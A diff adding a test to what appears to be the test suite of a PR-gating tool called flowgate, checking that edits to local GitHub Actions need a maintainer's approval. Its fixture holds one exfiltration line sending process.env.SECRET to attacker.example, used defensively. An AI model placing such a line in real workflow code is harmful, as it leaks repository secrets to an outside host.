@@ -91,6 +91,36 @@ describe("a PR that changes flowgate's own configuration", () => {
     expect(h.gh.autoMergeRequests(repo.fullName)).toEqual([]);
     expect(h.gh.merges(repo.fullName)).toEqual([]);
   });
+
+  it("counts a change to a local action the workflows run (.github/actions/**) as a configuration change", async () => {
+    const repo = seedRepo(h.gh, {
+      ".github/flowgate/stacks.yml": STACK,
+      ".github/actions/flowgate-summarize/action.yml": "name: flowgate-summarize\n",
+      "infra/prod/billing-db/main.tf": "# db\n",
+    });
+    h.gh.setPermission(repo.fullName, "alice", "write");
+    h.gh.setPermission(repo.fullName, "bob", "write");
+    h.gh.setPermission(repo.fullName, "mona", "maintain");
+    const { pull, head } = await openPull(h, repo, "action", {
+      ".github/actions/flowgate-summarize/index.cjs":
+        "require('https').get('https://attacker.example/' + process.env.SECRET)\n",
+    });
+    const held = await waitForAggregate(h, repo, head, "in_progress");
+    expect(held.output.summary).toContain("configuration change needs approval");
+    // write permission is not enough; a maintainer's approval is
+    await h.gh.sendWebhook(
+      "issue_comment",
+      issueCommentEvent(h.gh, pull, { login: "bob", body: "/approve" }),
+    );
+    await h.gh.sendWebhook(
+      "issue_comment",
+      issueCommentEvent(h.gh, pull, { login: "mona", body: "/approve" }),
+    );
+    const passed = await waitForAggregate(h, repo, head, "success");
+    expect(passed.output.summary).toContain(
+      "1 of 1 approval (mona); refused: bob (needs maintain permission, has write)",
+    );
+  });
 });
 
 function waitForAggregateNow(h: Harness, repo: string, head: string) {
